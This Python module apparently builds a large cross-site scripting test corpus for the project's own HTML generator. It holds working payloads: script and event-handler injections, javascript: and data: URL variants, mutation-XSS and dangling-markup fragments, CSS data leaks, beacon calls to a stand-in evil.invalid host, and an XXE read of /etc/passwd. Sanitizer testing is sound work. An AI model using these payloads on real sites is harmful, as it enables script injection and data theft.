"""Attacks on a page that documents become, some thousands, by the place that they are made for: our own generator.

The place says where in HTML an attack acts when nothing stands in its way; see PLACES. So a control can show it act.
"""

import base64
import itertools
import urllib.parse
from collections.abc import Iterable, Iterator
from typing import NamedTuple

from .encodings import ENCODINGS

EVIL = "https://evil.invalid"
PLACES = {
    "text": "<p>{}</p>", "dq": '<p title="{}">x</p>', "sq": "<p title='{}'>x</p>", "uq": "<p title={}>x</p>", "title": "<title>{}</title>", "textarea": "<textarea>{}</textarea>",
    "style": "<style>p{{color:red}}{}</style>", "css": '<p style="{}">x</p>', "script": '<script>var x = "{}"</script>', "comment": "<!-- {} -->", "svg": '<svg width="9"><text>{}</text></svg>',
    "href": '<a href="{}">x</a>', "src": '<iframe src="{}"></iframe>', "img": '<img src="{}" alt="x">', "xmp": "<xmp>{}</xmp>", "noscript": "<noscript>{}</noscript>",
    "table": "<table><tr><td>{}</td></tr></table>", "select": "<select><option>{}</option></select>",
}
"""Place → the HTML around it. “markdown” is one more: what a converter that lets HTML through makes of it."""


class Attack(NamedTuple):
    text: str
    place: str
    family: str


SCRIPTS = (
    "alert(1)", "alert`1`", "(alert)(1)", "window['al'+'ert'](1)", "self[/*x*/'alert'](1)", "eval(atob('YWxlcnQoMSk='))", "\\u0061lert(1)", "[1].map(alert)", "setTimeout('alert(1)')",
    "Function('alert(1)')()", "Reflect.apply(alert,null,[1])", "eval('\\x61lert(1)')", "alert?.(1)", "confirm(1)", "prompt(1)", "new Image().src='https://evil.invalid/i'",
    "fetch('https://evil.invalid/f')", "navigator.sendBeacon('https://evil.invalid/s')", "location='https://evil.invalid/l'", "open('https://evil.invalid/o')", "import('https://evil.invalid/m.js')",
    "document.body.append(Object.assign(document.createElement('iframe'),{src:'https://evil.invalid/d'}))", "new WebSocket('wss://evil.invalid/w')", "new EventSource('https://evil.invalid/e')",
    "new Worker('https://evil.invalid/k')", "throw onerror=alert,1", "history.replaceState(0,0,'/x'),alert(1)",
)
ELEMENTS = (
    "<script>{js}</script>", "<script src={evil}/x.js></script>", "<script type=module src={evil}/x.mjs></script>", "<script async>{js}</script>", "<script\n>{js}</script\n>", "<script x>{js}</script y>",
    "<img src=x onerror={js}>", "<img src={evil}/beacon.png>", "<img srcset='{evil}/a 1x'>", "<img sizes=1px srcset={evil}/b>", "<image src=x onerror={js}>", "<svg onload={js}>", "<svg><script>{js}</script></svg>",
    "<svg><script href={evil}/x.js /></svg>", "<svg><script xlink:href='data:text/javascript,{js}'/></svg>", "<svg><image href={evil}/i /></svg>", "<svg><use href={evil}/u.svg#x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x\" onerror=\"{js}\"/></svg>#x'/></svg>", "<svg><feImage href={evil}/f /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><animate onend={js} attributeName=x dur=0.01s>", "<svg><set onbegin={js} attributeName=x to=1>", "<svg><a><animate attributeName=href values=javascript:{js} /><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:{js} /><text y=9>x</text></a></svg>", "<svg><a href=javascript:{js}><text y=9>x</text></a></svg>", "<svg><a xlink:href=javascript:{js}><rect width=9 height=9 /></a></svg>",
    "<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>", "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>", "<svg><style>@import '{evil}/s.css';</style></svg>",
    "<svg><discard onbegin={js}>", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{js}</handler></svg>", "<svg><animatetransform onbegin={js} attributeName=transform dur=1s>",
    "<svg><filter id=f><feImage xlink:href={evil}/g /></filter><rect filter=url(#f) width=9 height=9 /></svg>", "<svg><rect width=9 height=9 fill='url({evil}/p.svg#x)' /></svg>",
    '<svg><text x=1 y=9 style="mask:url({evil}/mask.svg#m)">x</text></svg>', "<math><mtext><img src=x onerror={js}></mtext></math>", "<math href=javascript:{js}>x</math>", "<math><mi xlink:href=javascript:{js}>x</mi></math>",
    "<iframe src=javascript:{js}></iframe>", "<iframe srcdoc='<script>{js}</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror={js}&gt;'></iframe>", "<iframe src={evil}/></iframe>",
    "<iframe onload={js}></iframe>", "<frameset onload={js}>", "<body onload={js}>", "<body onpageshow={js}>", "<body onhashchange={js}><a href=#x>x</a>", "<body background={evil}/bg>", "<html onmouseover={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>", "<details><summary onclick={js}>x</summary></details>", "<a href=javascript:{js}>x</a>", "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a ping={evil}/p href=#x>x</a>", "<area href=javascript:{js}>", "<map name=m><area shape=default href=javascript:{js}></map><img usemap=#m src=x>", "<form action=javascript:{js}><button>x</button></form>",
    "<form action={evil}/f><input name=a></form>", "<form id=f></form><button form=f formaction=javascript:{js}>x</button>", "<button formaction=javascript:{js}>x</button>", "<input type=image src={evil}/i>",
    "<input autofocus onfocus={js}>", "<input type=submit formaction=javascript:{js}>", "<textarea autofocus onfocus={js}></textarea>", "<select autofocus onfocus={js}></select>", "<keygen autofocus onfocus={js}>",
    "<a tabindex=1 autofocus onfocus={js}>x</a>", "<p contenteditable autofocus onfocus={js}>x</p>", "<dialog open onclose={js}><form method=dialog><button>x</button></form></dialog>", "<button popovertarget=x>o</button><p popover id=x onbeforetoggle={js}>y</p>",
    "<video><source onerror={js}></video>", "<video src={evil}/v autoplay></video>", "<video poster={evil}/p></video>", "<video poster=javascript:{js}></video>", "<audio src=x onerror={js}></audio>", "<audio src={evil}/a autoplay></audio>",
    "<picture><source srcset={evil}/c><img src=x></picture>", "<track src={evil}/t default>", "<video src=x><track default src={evil}/t2></video>", "<object data=javascript:{js}></object>", "<object data={evil}/o></object>",
    "<object data='data:text/html,<script>{js}</script>'></object>", "<object type=text/html data='data:text/html;base64,{b64}'></object>", "<embed src=javascript:{js}>", "<embed src={evil}/e>", "<embed src='data:text/html,<script>{js}</script>'>",
    "<applet code=javascript:{js}></applet>", "<param name=movie value={evil}/m>", "<base href={evil}/>", "<base href=javascript:{js}//>", "<base target='{evil}'>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url={evil}/r'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>{js}</script>'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta name=referrer content=unsafe-url>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">', "<meta charset=utf-7>", "<link rel=stylesheet href={evil}/x.css>", "<link rel=preload as=image href={evil}/p>", "<link rel=prefetch href={evil}/pf>",
    "<link rel=dns-prefetch href=//evil.invalid>", "<link rel=preconnect href={evil}>", "<link rel=modulepreload href={evil}/mp.js>", "<link rel=icon href={evil}/ico>", "<link rel=manifest href={evil}/m.json>",
    "<link rel=import href={evil}/i.html>", "<link rel=prerender href={evil}/pr>", "<link rel=stylesheet href='data:text/css,*{{background:url({evil}/d)}}'>", "<link rel=stylesheet onload={js} href=data:text/css,>",
    "<style>@import '{evil}/x.css';</style>", "<style>*{{background:url({evil}/b)}}</style>", "<style>@font-face{{font-family:x;src:url({evil}/f)}}p{{font-family:x}}</style>", "<style onload={js}></style>",
    "<style>p{{animation:x}}@keyframes x{{}}</style><p onanimationstart={js}>x</p>", "<style>*{{list-style-image:url({evil}/l)}}</style><ul><li>x</ul>", "<style>input[value^=a]{{background:url({evil}/a)}}</style><input value=a>",
    "<p style='background:url({evil}/b)'>x</p>", "<p style=\"background-image:image-set('{evil}/is' 1x)\">x</p>", '<p style="list-style:url({evil}/ls);display:list-item">x</p>', '<p style="content:url({evil}/ct)">x</p>',
    '<p style="border-image-source:url({evil}/bi)">x</p>', "<p style='cursor:url({evil}/cu),auto'>x</p>", "<p style='width:expression({js})'>x</p>", "<p style='-moz-binding:url({evil}/x.xml#x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>", "<p style=animation-name:x onanimationstart={js}>x</p>", "<div id=main name=location>x</div>", "<form name=body><input name=attributes></form>", "<a id=defaultView href=x>x</a><a id=defaultView name=x href=y>",
    "<img name=getElementById src=x>", "<table background={evil}/t><tr><td>x</td></tr></table>", "<td background={evil}/td>", "<blockquote cite={evil}/c>x</blockquote>", "<marquee onstart={js}>x</marquee>", "<isindex action=javascript:{js} type=image>",
    "<bgsound src={evil}/b>", "<layer src={evil}/l></layer>", "<plaintext>{js}", "<xss onclick={js} tabindex=1>x</xss>", "<x-y onfocus={js} tabindex=1 autofocus>x</x-y>", "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<div><template shadowrootmode=open><script>{js}</script></template></div>", "<portal src={evil}/p>", "<fencedframe src={evil}/ff>", "<slot onslotchange={js}></slot>", "<!--><img src=x onerror={js}>-->", "<!--!><img src=x onerror={js}>--!>",
    "<![CDATA[<script>{js}</script>]]>", "<?xml-stylesheet href='javascript:{js}'?>", "<?php echo 1; ?><img src=x onerror={js}>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<!ENTITY x '<script>{js}</script>'>", "<//img src=x onerror={js}>",
    "<% <img src=x onerror={js}> %>", "<a href=x onclick={js}//", "<img src=x onerror={js}//", "<svg/onload={js}//", "<script>{js}//", "<img/src/onerror={js}>", "<img src onerror={js}>", '<img src="x"onerror="{js}">', "<IMG SRC=x OnErRoR={js}>",
    "<img\tsrc=x\tonerror\t=\t{js}>", "<img\nsrc=x\nonerror=\n{js}>", "<img\fsrc=x\fonerror={js}>", "<img src=x:x onerror\x0d={js}>", "<img src=`x` onerror={js}>", "<svg><p><style><g title='</style><img src=x onerror={js}>'>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<svg></p><style><a id='</style><img src=x onerror={js}>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={js}></style></annotation-xml></math>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>", "<svg><desc><![CDATA[</desc><img src=x onerror={js}>]]></svg>",
    "<svg><title><style><img src=x onerror={js}></style></title></svg>", "<xmp><p title='</xmp><img src=x onerror={js}>'>", "<noembed><p title='</noembed><img src=x onerror={js}>'>", "<noframes><p title='</noframes><img src=x onerror={js}>'>",
    "<iframe><p title='</iframe><img src=x onerror={js}>'>", "<textarea><p title='</textarea><img src=x onerror={js}>'>", "<title><p title='</title><img src=x onerror={js}>'>", "<style><p title='</style><img src=x onerror={js}>'>",
    "<script><!--<script></script><img src=x onerror={js}>", "<template><style></template><img src=x onerror={js}>", "<select><style></select><img src=x onerror={js}></style>", "<table><svg><style><img title='</style><img src=x onerror={js}>'>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror={js}>'>", "<svg><foreignObject><math><mi><style></foreignObject><img src=x onerror={js}>", "<p><svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "<a href='x' title='a&#x27; onmouseover={js} x='>x</a>", "<listing>&lt;img src=x onerror={js}&gt;</listing>", "<p title='`onmouseover={js}'>x</p>", "<svg><font color=x><img src=x onerror={js}>", "<math><p></p><style><!--</style><img src=x onerror={js}>-->",
    "<b><i><p></b><img src=x onerror={js}></i>", "<a><a><a><img src=x onerror={js}>" * 3, "<table><td><table><img src=x onerror={js}>", "<svg><svg><b><noscript>&lt;/noscript&gt;&lt;img src=x onerror={js}&gt;</noscript>",
    "<option><style></option></select><img src=x onerror={js}></style>", "<ruby><rt><template><rp><img src=x onerror={js}>", "<div>" * 60 + "<img src=x onerror={js}>", "<svg>" * 30 + "<style><img src=x onerror={js}>",
)
DANGLING = (
    "<img src='{evil}/?", '<img src="{evil}/?', "<a href='{evil}/?", "<base target='", "<base href='{evil}/?", "<form action={evil}><input type=submit><textarea name=x>", "<textarea>", "<select><option>", "<button form=f formaction={evil}>",
    "<style>@import//evil.invalid/?", "<meta http-equiv=refresh content='0; url={evil}/?", "<link rel=stylesheet href='{evil}/?", "<table background='{evil}/?", "<script>", "<!--", "<![CDATA[", "<plaintext>", "<xmp>", "<title>", '<p title="', "<iframe srcdoc='",
    "<svg><style>", "<noscript>", "<template>", "<object data='{evil}/?", "<input value='", "<option value='", "<math><annotation-xml>", "</body></html>", "</main>", "</article></li></ul>", "</div>" * 20, "<a name=main>", "</svg>", "</title></head><body>",
)
ENDS = {
    "dq": ('"', '">', '" x="'), "sq": ("'", "'>", "' x='"), "uq": (" ", ">", "x "), "comment": ("-->", "--!>", ">"), "style": ("</style>", "}</style >", "*/</style\n>"), "script": ("</script>", '"</script >', "</SCRIPT/>"),
    "title": ("</title>", "</title x>"), "textarea": ("</textarea>", "</textarea/>"), "svg": ("</text></svg>", "</svg>", "]]>"), "xmp": ("</xmp>",), "noscript": ("</noscript>",), "table": ("</td></tr></table>", "</table>"),
    "select": ("</option></select>", "</select>"), "href": ('"', '">'), "img": ('"', '">'),
}
"""Place → what ends it."""
BLANKS = ("", " ", "\t", "\n", "\r", "\f", "\x00", "\x01", "\x0b", "\x1f", "&Tab;", "&NewLine;", "&#1;", "&#x20;", "\xa0", "\u2028", "\u200b", "\ufeff", "\u3000", "\\", "/")


def schemes() -> Iterator[str]:
    """Addresses that act or ask a stranger."""
    yield from (f"{blank}javascript:alert(1)" for blank in BLANKS)
    yield from (f"java{blank}script:alert(1)" for blank in BLANKS[1:])
    yield from (f"javascript{blank}:alert(1)" for blank in BLANKS[1:])
    yield from (
        "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript&#0000058alert(1)", "&#106avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript:alert&lpar;1&rpar;", "javascript%3Aalert(1)",
        "%6aavascript:alert(1)", "javascript%253Aalert(1)", "javascript://%0aalert(1)", "javascript://a.bc/%0aalert(1)//", "javascript:/*--></title></style></textarea></script><img src=x onerror=alert(1)>*/alert(1)", "javascript\uff1aalert(1)", "\uff4aavascript:alert(1)",
        "java\u017fcript:alert(1)", "javascr\u0131pt:alert(1)", "javascript\ua789alert(1)", "javascript\u02d0alert(1)", "javascript:\u2028alert(1)", "livescript:alert(1)", "mocha:alert(1)", "vbscript:msgbox(1)", "jar:https://evil.invalid!/", "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)", "blob:null/x", "filesystem:https://evil.invalid/x", "file:///etc/passwd", "chrome://version", "about:blank#<script>alert(1)</script>", "intent://x#Intent;end", "ms-msdt:/id", "tel:1", "sms:1", "ftp://evil.invalid/", "ws://evil.invalid/",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DaTa:text/html,<script>alert(1)</script>", "data:,<script>alert(1)</script>", "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "data\t:text/html,<script>alert(1)</script>",
        " data:text/html,<script>alert(1)</script>", "&#100;ata:text/html,<script>alert(1)</script>", "//evil.invalid/x", "///evil.invalid/x", "////evil.invalid", "\\\\evil.invalid/x", "/\\evil.invalid/x", "\\/evil.invalid/x", "/\t/evil.invalid/x", "https:evil.invalid", "https:/evil.invalid", "https:\\\\evil.invalid",
        "https:///evil.invalid/x", "HTTPS://EVIL.INVALID/x", "http://\u0435vil.invalid/", "https://a.bc@evil.invalid/", "https://a.bc%00.evil.invalid/", "https://a.bc\u3002evil.invalid/", "https://[::1]:1/", "https://a.bc:80a/", 'https://a.bc/" onmouseover="alert(1)', "https://a.bc/' onmouseover='alert(1)",
        "https://a.bc/><script>alert(1)</script>", "https://a.bc/`onmouseover=alert(1)", "https://a.bc/\nonmouseover=alert(1)", "https://a.bc/)<img src=x onerror=alert(1)>", "https://a.bc/](javascript:alert(1))", "https://a.bc/&quot;onmouseover=alert(1)", "mailto:a@b.cd?body=<script>alert(1)</script>", "mailto:javascript:alert(1)",
        'mailto:"onmouseover=alert(1)"@a.bc', '#" onmouseover=alert(1)', "?x=<script>alert(1)</script>", 'x.html" onmouseover="alert(1)', "../../../etc/passwd", "..\\..\\x.html", "\x00https://evil.invalid/",
    )


MARKDOWN_URLS = (
    "[x]({})", "![x]({})", "<{}>", "[x](<{}>)", "[x][1]\n\n[1]: {}", "[x]\n\n[x]: <{}> 'y'", "![x][1]\n\n[1]: {}", "[![x]({})](https://a.bc)", '[x]({} "y")', "[x]( {} )", "\\[x]({})", "[x]\\({})", "**[x]({})**", "[`x`]({})", "- [x]({})", "> [x]({})", "| a |\n|---|\n| [x]({}) |",
)
MARKDOWN = (
    "[{}](https://a.bc)", "![{}](x.png)", "![{}](https://evil.invalid/i.png)", '[x](https://a.bc "{}")', "[x](https://a.bc '{}')", "[x](https://a.bc ({}))", "`{}`", "``{}``", "```{}\nx\n```", "```html\n{}\n```", "~~~{}\nx\n~~~", "    {}", "\t{}", "<div>\n{}\n</div>", "<p>{}\n\n</p>", "| a | b |\n|---|---|\n| {} | x |",
    "# {}", "{}\n===", "> {}", "- {}", "1. {}", "- [ ] {}", "a[^1]\n\n[^1]: {}", "[x]: https://a.bc '{}'", "[x]: {}", "**{}**", "*{}*", "***{}***", "~~{}~~", "__{}__", "\\{}", "\\\\{}", "a\n: {}", "*[x]: {}\n\nx", "<details><summary>x</summary>\n\n{}\n\n</details>", "<!-- x\n\n{}\n\n-->", "x  \n{}", "&lt;{}&gt;", "<b>{}</b>", "[{}]",
    "[[{}]]", "{{{{{}}}}}", "$$ {} $$", '!!! note "{}"\n    x', "x {{: {} }}", "[TOC]\n\n# {}", "[{}]()", "[]({})", "<https://a.bc/{}>", "https://a.bc/{}", "www.a.bc/{}", "@x{}", ":x: {}", "{}\n\n{}", "x\\\n{}", "*{}", "_a_{}_b_", "`{}", "[{}", "]({}", "](https://a.bc){}",
)
CODE = (
    "</script><script>alert(1)</script>", '"};alert(1)//', '\\";alert(1)//', "';alert(1)//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "${alert(1)}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{% raw %}<script>alert(1)</script>{% endraw %}", "<%= alert(1) %>", "#{alert(1)}", "[[${7*7}]]",
    '{"__proto__":{"x":1}}', "</script/x><img src=x onerror=alert(1)>", "<!--<script>", "\u2028alert(1)//", "//# sourceMappingURL=https://evil.invalid/m", "]]><script>alert(1)</script>", "--><script>alert(1)</script>", "--- \nlayout: x\n---\n<script>alert(1)</script>", '---\ntitle: "<img src=x onerror=alert(1)>"\n---',
    "+++\ntitle = '<script>alert(1)</script>'\n+++", "title: x\nscript: alert(1)\n\n<script>alert(1)</script>", 'A["<img src=x onerror=alert(1)>"]', 'click A href "javascript:alert(1)"', "click A call alert(1)", "%%{init: {'securityLevel':'loose'}}%%", '"] --> B["<script>alert(1)</script>', "#quot;<img src=x onerror=alert(1)>", "A:::x<img src=x onerror=alert(1)>",
    "journey\ntitle <script>alert(1)</script>", "section <img src=x onerror=alert(1)>", "x: 5: <script>alert(1)</script>", "```\n<script>alert(1)</script>\n```mermaid\ngraph TD", "::: mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\n:::", "```mermaid\nclick A javascript:alert(1)\n```", "{toc}{html}<script>alert(1)</script>{html}",
    '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>', '<ri:url ri:value="https://evil.invalid/x.png"/>', "{{#widget:x}}", "<html><script>alert(1)</script></html>", "<nowiki></nowiki><script>alert(1)</script>", "%%</nowiki>%%<script>alert(1)</script>",
    "{{https://evil.invalid/i.png}}", "[https://evil.invalid javascript]", "[[javascript:alert(1)|x]]", "{{rss>https://evil.invalid/}}", "~~REDIRECT>https://evil.invalid~~", '<templatestyles src="x"/>', "{{Special:Log}}", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
CSS = (
    "background:url({evil}/1)", "background:u\\72l({evil}/2)", "background:url(javascript:alert(1))", "background-image:image-set('{evil}/3' 1x)", "x:expression(alert(1))", "@import '{evil}/4';", "}}*{{background:url({evil}/5)}}", "}}@import url({evil}/6);", "color:red;}}body{{background:url('{evil}/7')",
    "\\}}*{{background:url({evil}/8)}}", "/*", "*/*{{background:url({evil}/9)}}", "list-style:url({evil}/10)", "content:url({evil}/11)", "behavior:url({evil}/12)", "-moz-binding:url({evil}/13)", "--x:url({evil}/14);background:var(--x)", "filter:url({evil}/15#x)", "mask-image:url({evil}/16)", "shape-outside:url({evil}/17)",
    "cursor:url({evil}/18),auto", "border-image:url({evil}/19) 1", "@namespace url({evil}/20);", "@font-face{{font-family:a;src:url({evil}/21)}}*{{font-family:a}}", "font-family:'</style><img src=x onerror=alert(1)>'", "@charset 'utf-7';", "}}</style><img src=x onerror=alert(1)>", "src:url('{evil}/22'", "@media{{*{{background:url({evil}/23)}}}}",
    "background:\\75\\72\\6c({evil}/24)", "offset-path:url({evil}/25)", "clip-path:url({evil}/26#x)", "marker:url({evil}/27#x)", "@layer x{{*{{background:url({evil}/28)}}}}", "position:fixed;top:0;left:0;width:100%;height:100%",
)
CORE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)", "[x](javascript:alert(1))", "![x](https://evil.invalid/i.png)", '<a href="javascript:alert(1)">x</a>', "</title><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "<style>@import 'https://evil.invalid/x.css'</style>",
)
"""What goes through every encoding."""


def attacks(events: Iterable[str]) -> list[Attack]:
    """Every attack once. `events` are the handlers that the browser at hand knows, such as “onclick”."""
    found: dict[str, Attack] = {}
    for attack in _all(events):
        found.setdefault(attack.text, attack)
    return list(found.values())


def _all(events: Iterable[str]) -> Iterator[Attack]:
    def filled(form: str, js: str = "alert(1)") -> str:
        script = base64.b64encode(f"<script>{js}</script>".encode()).decode()
        return form.format(js=js, evil=EVIL, b64=script)

    for js in SCRIPTS:
        for form, place in (("<script>{js}</script>", "text"), ('<img src=x onerror="{js}">', "text"), ('" onmouseover="{js}', "dq"), ("javascript:{js}", "href"), ('";{js}//', "script"), ('<svg><animate onbegin="{js}" attributeName=x dur=1s>', "svg")):
            yield Attack(filled(form, js), place, "scripts")
    for event in events:
        yield Attack(f"<p {event}=alert(1)>x</p>", "text", "events")
        yield Attack(f"<svg><g {event.upper()}='alert(1)'><text>x", "text", "events")
        yield Attack(f'" {event}="alert(1)', "dq", "events")
        yield Attack(f"'/{event}='alert(1)", "sq", "events")
        yield Attack(f"x\t{event}\n=alert(1)", "uq", "events")
    for families in (("elements", ELEMENTS), ("mutations", MUTATIONS), ("dangling", DANGLING)):
        for form in families[1]:
            yield Attack(filled(form), "text", families[0])
    for form in ELEMENTS:
        yield Attack(filled(form, "top.name=1,alert`1`"), "svg", "elements in SVG")
    for place, ends in ENDS.items():
        for end, payload in itertools.product(ends, ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", f"<link rel=stylesheet href={EVIL}/x.css>")):
            yield Attack(end + ("" if end.endswith(">") or payload[0] != "<" else ">") + payload, place, "ends")
    for url in schemes():
        yield Attack(url, "href", "schemes")
        yield Attack(f'<a href="{url}">x</a>', "text", "schemes")
        yield Attack(f"<iframe src='{url}'></iframe>", "text", "schemes")
        yield Attack(f'<form action="{url}"><button>x</button></form><img src="{url}"><svg><a href="{url}"><text>x', "text", "schemes")
    for url, form in itertools.product(("javascript:alert(1)", "JaVa\tScript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.invalid/x", 'https://a.bc/"onmouseover=alert(1)'), MARKDOWN_URLS):
        yield Attack(form.format(url), "markdown", "Markdown addresses")
    for payload, form in itertools.product(("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "javascript:alert(1)"), MARKDOWN):
        yield Attack(form.format(payload, payload), "markdown", "Markdown")
    for code in CODE:
        yield Attack(code, "script" if code[:1] in "\"\\`';" else "text", "code")
    for css in CSS:
        yield Attack(filled(css), "style" if css[:1] in "}@\\*/" else "css", "CSS")
    for core, encode in itertools.product(CORE, ENCODINGS.values()):
        yield Attack(encode(core), "markdown" if core[:1] in "[!" else "sq" if core[:1] == "'" else "dq" if core[:1] == '"' else "text", "encodings")
    for core in CORE:
        yield Attack(f"https://a.bc/{urllib.parse.quote(core)}", "href", "encodings")
        for around in ("{} {}", "a\u00a0{}\u00a0b", "“{}”", "{}\n{}", "x{}y", "\u202b{}\u202c"):
            yield Attack(around.format(core, core), "text", "encodings")
